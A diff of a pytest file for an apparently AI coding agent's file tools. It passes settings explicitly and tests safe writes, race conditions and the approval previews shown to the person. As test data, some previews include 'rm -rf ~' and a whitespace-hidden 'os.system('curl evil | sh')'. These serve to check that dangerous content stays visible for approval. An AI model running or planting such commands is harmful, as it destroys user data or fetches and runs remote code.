@@ -20,7 +20,7 @@ from plainagent.approval import prompt as approval
 from plainagent.workspace import edits
 import harness
 from plainagent.approval import previews
-from plainagent.core import terminal
+from plainagent.core import screen
 import tools
 from plainagent.workspace import writes
 from fake_model import answer, calls
@@ -56,10 +56,10 @@ def write(path: str, content: str) -> dict:
     return calls(("write_file", {"path": path, "content": content}))
 
 
-def asking(asked: list, decision: bool = True):
-    """An approver that records what the person would be shown, then decides."""
+def asking(asked: list, config, decision: bool = True):
+    """An approver that records what the person would be shown (in the run's settings, config), then decides."""
     def approve(name: str, arguments: dict) -> bool:
-        asked.append(previews.describe(name, arguments, terminal.shown))
+        asked.append(previews.describe(name, arguments, screen.shown, config))
         return decision
     return approve
 
@@ -74,7 +74,7 @@ sys.path.insert(0, {str(ROOT)!r})
 import tools
 from plainagent.core import settings
 from plainagent.workspace import writes
-settings.CURRENT.set(settings.resolve(require_key=False))  # this child is one run: the tools read its settings
+config = settings.resolve(require_key=False)  # this child is one run: its tools get these settings
 def big(marker):
     return f"marker {{marker}}\\n" + {LINE!r} * {LINES}
 class Terminated(KeyboardInterrupt):
@@ -88,9 +88,9 @@ try:
     while True:
         for marker in (1, 0):
             if tool == "write_file":
-                tools.write_file("big.txt", big(marker))
+                tools.write_file("big.txt", big(marker), settings=config)
             else:
-                tools.edit_file("big.txt", f"marker {{1 - marker}}\\n", f"marker {{marker}}\\n")
+                tools.edit_file("big.txt", f"marker {{1 - marker}}\\n", f"marker {{marker}}\\n", settings=config)
 except KeyboardInterrupt as stop:
     sys.exit(getattr(stop, "code", 130))
 """
@@ -167,7 +167,7 @@ def test_sigterm_while_the_agent_edits_a_big_file_stops_the_run_and_leaves_it_wh
 
 @pytest.mark.skipif(not Path("/proc/self/fd").is_dir() or shutil.which("strace") is None,
                     reason="needs Linux and strace, to kill a write between naming its new file and the rename")
-def test_a_new_file_named_by_a_write_killed_before_its_rename_is_removed_by_a_later_write(model, tmp_path):
+def test_a_new_file_named_by_a_write_killed_before_its_rename_is_removed_by_a_later_write(model, tmp_path, in_a_run):
     # kill -9 right after the new file got its name (.<hex>.agent-write) and before the rename over the target left
     # that hidden copy in the workspace for good (git add -A would take it), though the docs said nothing is left.
     folder = tmp_path.resolve()
@@ -190,7 +190,7 @@ def test_a_new_file_named_by_a_write_killed_before_its_rename_is_removed_by_a_la
         if path.name != ".fedcba9876543210.agent-write":
             os.utime(path, (an_hour_ago, an_hour_ago))
 
-    harness.run("write more", approve=asking([]))
+    harness.run("write more", approve=asking([], in_a_run))
 
     assert (folder / "other.txt").read_text() == "more\n" and not left.exists()
     assert sorted(p.name for p in folder.iterdir()) == [
@@ -288,13 +288,13 @@ sys.path.insert(0, {str(ROOT)!r})
 import tools
 from plainagent.core import settings
 from plainagent.workspace import writes
-settings.CURRENT.set(settings.resolve(require_key=False))
+config = settings.resolve(require_key=False)
 writes.FOLDER_WAIT = 600  # this is about lost edits, not about how long a busy machine makes the other one wait
 who, count = sys.argv[1], int(sys.argv[2])
 print("ready", flush=True)
 sys.stdin.readline()
 for k in range(count):
-    tools.edit_file("shared.txt", f"{{who}} {{k}}: old\\n", f"{{who}} {{k}}: new\\n")
+    tools.edit_file("shared.txt", f"{{who}} {{k}}: old\\n", f"{{who}} {{k}}: new\\n", settings=config)
 """
 EDITS_EACH = 150
 SOME_FILLER = "filler that makes each edit read and write a few kilobytes more\n" * 20
@@ -380,12 +380,12 @@ def changed_keeping_size_and_time(notes: Path) -> None:
 
 @pytest.mark.parametrize("change, after", [(appended, "flag = 0\na line I added meanwhile\n"),
                                            (changed_keeping_size_and_time, "flag = 1\n")])
-def test_a_file_changed_while_the_person_was_asked_is_not_overwritten(model, tmp_path, change, after):
+def test_a_file_changed_while_the_person_was_asked_is_not_overwritten(model, tmp_path, change, after, in_a_run):
     notes = tmp_path / "notes.txt"
     notes.write_text("flag = 0\n")
 
     def approve_after_a_change(name: str, arguments: dict) -> bool:
-        previews.describe(name, arguments, terminal.shown)
+        previews.describe(name, arguments, screen.shown, in_a_run)
         change(notes)
         return True
 
@@ -427,13 +427,13 @@ def test_an_edit_made_while_the_person_was_asked_is_kept_by_the_edit(model, tmp_
 
 
 def test_a_file_another_process_creates_in_the_folder_this_write_is_making_is_not_overwritten(
-        model, tmp_path, monkeypatch):
+        model, tmp_path, monkeypatch, in_a_run):
     # A file in folders still to be made locks the nearest folder that exists (here the workspace); another
     # process that comes once the folder is made locks the new folder, not that one, and may write the file meanwhile.
     remember = tools.undo.remember
 
-    def another_process_writes_it_as_the_folder_is_made(target: Path, chunks):
-        settle = remember(target, chunks)
+    def another_process_writes_it_as_the_folder_is_made(target: Path, chunks, config):
+        settle = remember(target, chunks, config)
         (tmp_path / "sub").mkdir()
         (tmp_path / "sub" / "notes.txt").write_text("theirs\n")
         return settle
@@ -441,7 +441,7 @@ def test_a_file_another_process_creates_in_the_folder_this_write_is_making_is_no
     monkeypatch.setattr(tools.undo, "remember", another_process_writes_it_as_the_folder_is_made)
     model.queue(write("sub/notes.txt", "the model's notes\n"), answer("it was made meanwhile"))
 
-    harness.run("write notes", approve=asking([]))
+    harness.run("write notes", approve=asking([], in_a_run))
 
     assert model.messages(1)[-1]["content"] == "error: sub/notes.txt changed since you were asked; read it again"
     assert (tmp_path / "sub" / "notes.txt").read_text() == "theirs\n"
@@ -501,10 +501,11 @@ import os, sys
 sys.path.insert(0, {str(ROOT)!r})
 import tools
 from plainagent.core import settings
-settings.CURRENT.set(settings.resolve(require_key=False))  # this child is one run: the tools read its settings
+config = settings.resolve(require_key=False)  # this child is one run: its tools get these settings
 os.setgid(65534)
 os.setuid(65534)
-for call in (lambda: tools.write_file("theirs.txt", "mine now"), lambda: tools.edit_file("theirs.txt", "one", "two")):
+for call in (lambda: tools.write_file("theirs.txt", "mine now", settings=config),
+             lambda: tools.edit_file("theirs.txt", "one", "two", settings=config)):
     try:
         print(call())
     except PermissionError as error:
@@ -536,7 +537,7 @@ def test_a_new_file_gets_the_usual_mode(tmp_path, monkeypatch, temporary, in_a_r
     monkeypatch.chdir(tmp_path)
     umask = os.umask(0o027)
     try:
-        tools.write_file("deep/new.txt", "hi\n")
+        tools.write_file("deep/new.txt", "hi\n", settings=in_a_run)
     finally:
         os.umask(umask)
 
@@ -566,13 +567,13 @@ def test_a_link_inside_the_workspace_is_written_through(model, tmp_path, call):
                                   "the old text)\n  --- a.txt (now)\n  +++ a.txt (new)\n  @@ -1 +1 @@\n  -one\n  +two"),
 ])
 def test_a_file_with_other_hard_links_gets_new_text_under_this_name_only_and_the_prompt_says_so(
-        model, tmp_path, call, shown):
+        model, tmp_path, call, shown, in_a_run):
     (tmp_path / "a.txt").write_text("one\n")
     os.link(tmp_path / "a.txt", tmp_path / "b.txt")
     asked = []
     model.queue(call, answer("done"))
 
-    harness.run("change it", approve=asking(asked))
+    harness.run("change it", approve=asking(asked, in_a_run))
 
     assert asked == [shown]
     assert (tmp_path / "a.txt").read_text() == "two\n"
@@ -590,20 +591,20 @@ def test_in_a_crlf_file_new_text_gets_the_line_endings_of_the_text_it_replaces(t
     monkeypatch.chdir(tmp_path)
     (tmp_path / "win.txt").write_bytes(b"one\r\ntwo\r\nlf line\nthree\r\nfour\r\n")
 
-    tools.edit_file("win.txt", old_text, new_text)
+    tools.edit_file("win.txt", old_text, new_text, settings=in_a_run)
 
     assert (tmp_path / "win.txt").read_bytes() == expected
 
 
 # 5. The prompt shows what changes, around the change, whatever the size of the file.
 
-def test_the_edit_prompt_shows_the_hunk_around_the_change_numbered_as_in_the_whole_file(model, tmp_path):
+def test_the_edit_prompt_shows_the_hunk_around_the_change_numbered_as_in_the_whole_file(model, tmp_path, in_a_run):
     lines = [f"line {n}\n" for n in range(1, 10_001)]
     (tmp_path / "big.txt").write_text("".join(lines))
     asked = []
     model.queue(edit("big.txt", "line 5000\nline 5001\n", "X\n"), answer("not now"))
 
-    harness.run("edit", approve=asking(asked, False))
+    harness.run("edit", approve=asking(asked, in_a_run, False))
 
     after = lines[:4999] + ["X\n"] + lines[5001:]
     whole = difflib.unified_diff([line[:-1] for line in lines], [line[:-1] for line in after], "big.txt (now)",
@@ -617,7 +618,7 @@ def test_the_edit_prompt_on_a_one_line_file_shows_a_short_piece_of_the_line(tmp_
     monkeypatch.chdir(tmp_path)
     (tmp_path / "min.js").write_text("a" * 3_000_000 + "CHANGE ME" + "b" * 3_000_000)
 
-    shown = previews.describe("edit_file", {"path": "min.js", "old_text": "CHANGE ME", "new_text": "CHANGED"}, terminal.shown)
+    shown = previews.describe("edit_file", {"path": "min.js", "old_text": "CHANGE ME", "new_text": "CHANGED"}, screen.shown, in_a_run)
 
     head, *diff = shown.split("\n")
     assert head == "edit_file wants to edit min.js (6000009 -> 6000007 bytes)"
@@ -633,7 +634,7 @@ def test_the_write_prompt_for_a_big_file_shows_the_sizes_and_the_new_texts_start
     (tmp_path / "big.log").write_text("old\n" * 500_000)
     content = "".join(f"new {n}\n" for n in range(1, 31))
 
-    shown = previews.describe("write_file", {"path": "big.log", "content": content}, terminal.shown)
+    shown = previews.describe("write_file", {"path": "big.log", "content": content}, screen.shown, in_a_run)
 
     assert shown == ("write_file wants to overwrite big.log (exists, 2000000 -> 201 bytes)\n"
                      "  too big to compare; the new text starts:\n"
@@ -643,7 +644,7 @@ def test_the_write_prompt_for_a_big_file_shows_the_sizes_and_the_new_texts_start
 def test_the_write_prompt_for_a_new_file_shows_its_first_lines(tmp_path, monkeypatch, in_a_run):
     monkeypatch.chdir(tmp_path)
 
-    shown = previews.describe("write_file", {"path": "new.txt", "content": "x\n" * 21 + "last"}, terminal.shown)
+    shown = previews.describe("write_file", {"path": "new.txt", "content": "x\n" * 21 + "last"}, screen.shown, in_a_run)
 
     assert shown == ("write_file wants to create new.txt (new file, 46 bytes)\n" + "  +x\n" * 20
                      + "  ... and 2 more lines")
@@ -656,7 +657,7 @@ def test_the_write_prompt_says_how_much_of_a_long_diff_it_leaves_out(tmp_path, m
     (tmp_path / "f.txt").write_text(old)
     content = old.replace("line 2\n", "two\n").replace("line 25\n", "twenty-five\n").replace("line 50\n", "rm -rf ~\n")
 
-    shown = previews.describe("write_file", {"path": "f.txt", "content": content}, terminal.shown)
+    shown = previews.describe("write_file", {"path": "f.txt", "content": content}, screen.shown, in_a_run)
 
     *diff, note = shown.split("\n")
     assert len(diff) == 1 + previews.PREVIEW_LINES and diff[-1] == "  @@ -48,7 +48,7 @@"
@@ -674,10 +675,10 @@ def test_the_prompt_names_the_file_a_link_leads_to(tmp_path, monkeypatch, in_a_r
     (tmp_path / "docs" / "notes.md").symlink_to("../.git/config")
     (tmp_path / "docs" / "plain.md").write_text("plain\n")
 
-    wrote = previews.describe("write_file", {"path": "docs/notes.md", "content": "[core]\n"}, terminal.shown)
+    wrote = previews.describe("write_file", {"path": "docs/notes.md", "content": "[core]\n"}, screen.shown, in_a_run)
     edited = previews.describe("edit_file", {"path": "docs/notes.md", "old_text": "bare", "new_text": "x"},
-                               terminal.shown)
-    plain = previews.describe("write_file", {"path": "docs/../docs/plain.md", "content": "x\n"}, terminal.shown)
+                               screen.shown, in_a_run)
+    plain = previews.describe("write_file", {"path": "docs/../docs/plain.md", "content": "x\n"}, screen.shown, in_a_run)
 
     assert wrote.startswith("write_file wants to overwrite docs/notes.md (leads to .git/config) (exists, 21 -> 7")
     assert edited.startswith("edit_file wants to edit docs/notes.md (leads to .git/config) (21 -> 18 bytes)")
@@ -689,7 +690,7 @@ def test_a_long_line_in_a_preview_shows_its_end(tmp_path, monkeypatch, in_a_run)
     monkeypatch.chdir(tmp_path)
     line = "x = 1" + " " * 400 + "; import os; os.system('curl evil | sh')"
 
-    shown = previews.describe("write_file", {"path": "a.py", "content": line + "\n"}, terminal.shown)
+    shown = previews.describe("write_file", {"path": "a.py", "content": line + "\n"}, screen.shown, in_a_run)
 
     assert shown.endswith(" characters left out ...] " + f"+{line}"[-previews.PREVIEW_TAIL:])
     assert "os.system('curl evil | sh')" in shown
@@ -700,8 +701,8 @@ def test_a_write_that_changes_only_line_endings_says_so(tmp_path, monkeypatch, i
     monkeypatch.chdir(tmp_path)
     (tmp_path / "f.txt").write_bytes(b"a\r\nb\r\n")
 
-    wrote = previews.describe("write_file", {"path": "f.txt", "content": "a\nb"}, terminal.shown)
-    same = previews.describe("edit_file", {"path": "f.txt", "old_text": "a\r\n", "new_text": "a\n"}, terminal.shown)
+    wrote = previews.describe("write_file", {"path": "f.txt", "content": "a\nb"}, screen.shown, in_a_run)
+    same = previews.describe("edit_file", {"path": "f.txt", "old_text": "a\r\n", "new_text": "a\n"}, screen.shown, in_a_run)
 
     assert wrote == ("write_file wants to overwrite f.txt (exists, 6 -> 3 bytes)\n  no line changes as shown: only "
                      "line endings (\\r\\n, \\n, none), or bytes that are not UTF-8, differ")
@@ -733,7 +734,7 @@ def test_an_edit_and_its_undo_keep_the_files_acl_and_extended_attributes(model, 
 
 
 @posix_only
-def test_an_edit_whose_folder_is_swapped_for_a_link_during_the_question_is_refused(model, tmp_path):
+def test_an_edit_whose_folder_is_swapped_for_a_link_during_the_question_is_refused(model, tmp_path, in_a_run):
     # edit_file planned again on whatever the path led to after the yes: the person saw docs/a.txt, and the
     # edit landed in other/a.txt, which a link swapped in for docs/ now led to.
     (tmp_path / "docs").mkdir()
@@ -742,7 +743,7 @@ def test_an_edit_whose_folder_is_swapped_for_a_link_during_the_question_is_refus
     (tmp_path / "other" / "a.txt").write_text("version = 1\n")
 
     def approve_after_a_swap(name: str, arguments: dict) -> bool:
-        previews.describe(name, arguments, terminal.shown)
+        previews.describe(name, arguments, screen.shown, in_a_run)
         (tmp_path / "docs").rename(tmp_path / "docs-before")
         (tmp_path / "docs").symlink_to("other")
         return True
@@ -786,7 +787,7 @@ def test_a_folder_that_may_be_written_but_not_read_is_written_in_without_the_fol
         "import ctypes",
         "header, nothing = (ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)()",
         "assert ctypes.CDLL(None, use_errno=True).capset(ctypes.byref(header), nothing) == 0",
-        "result = tools.write_file('dropbox/new/x.txt', 'hi\\n')",
+        "result = tools.write_file('dropbox/new/x.txt', 'hi\\n', settings=config)",
     ]), tmp_path)
 
     assert done["result"] == "created dropbox/new/x.txt (3 bytes)"
@@ -802,11 +803,11 @@ def test_a_folder_replaced_between_its_lock_and_the_write_is_not_written_in(mode
     (tmp_path / "d" / "notes.txt").write_text("mine\n")
     real_open_folder = writes.open_folder
 
-    def open_after_a_swap(target):
+    def open_after_a_swap(target, config):
         (tmp_path / "d").rename(tmp_path / "d.old")
         (tmp_path / "d").mkdir()
         (tmp_path / "d" / "notes.txt").write_text("theirs\n")
-        return real_open_folder(target)
+        return real_open_folder(target, config)
 
     monkeypatch.setattr(writes, "open_folder", open_after_a_swap)
     model.queue(call, answer("done"))
